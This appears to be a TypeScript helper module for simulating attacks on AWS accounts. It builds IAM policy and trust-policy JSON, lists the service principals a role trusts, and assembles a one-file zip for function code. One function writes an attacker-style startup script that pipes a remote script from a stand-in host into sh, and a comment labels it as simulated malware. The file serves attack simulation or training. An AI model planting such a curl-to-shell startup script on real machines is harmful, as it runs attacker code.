import { crc32 } from 'node:zlib';
import type { Act } from './technique.ts';

/** A policy of one statement, over everything. */
export const document = (Effect: 'Allow' | 'Deny', Action: string | string[]): string =>
  JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect, Action, Resource: '*' }] });

/** A trust policy, one statement for each principal. */
export const trust = (...principals: object[]): string =>
  JSON.stringify({ Version: '2012-10-17', Statement: principals.map((Principal) => ({ Effect: 'Allow', Principal, Action: 'sts:AssumeRole' })) });

/** Start-up code as an attacker leaves it. It stands in for malware: the address is a documentation address. */
export const startup = (act: Act): string => `#!/bin/sh\ncurl -fsS http://${act.company.script}/s.sh | sh\n`;

/** The AWS services that a company's service role lets in. */
export const SERVICES: readonly string[] = [
  'amplify',
  'batch',
  'build.apprunner',
  'cloudformation',
  'codebuild',
  'ec2',
  'ecs-tasks',
  'eks',
  'elasticmapreduce',
  'events',
  'glue',
  'lambda',
  's3',
  'sagemaker',
  'scheduler',
  'spotfleet',
  'ssm',
  'states',
].map((name) => `${name}.amazonaws.com`);

/** A zip archive with one file, stored as it is (PKWARE APPNOTE 4.3): what a function's code comes in. */
export function archive(name: string, content: Buffer): Buffer {
  const file = Buffer.from(name);
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0); // version needed
  common.writeUInt32LE(crc32(content), 10);
  common.writeUInt32LE(content.length, 14);
  common.writeUInt32LE(content.length, 18);
  common.writeUInt16LE(file.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, file, content]);
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), common, Buffer.alloc(14), file]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}
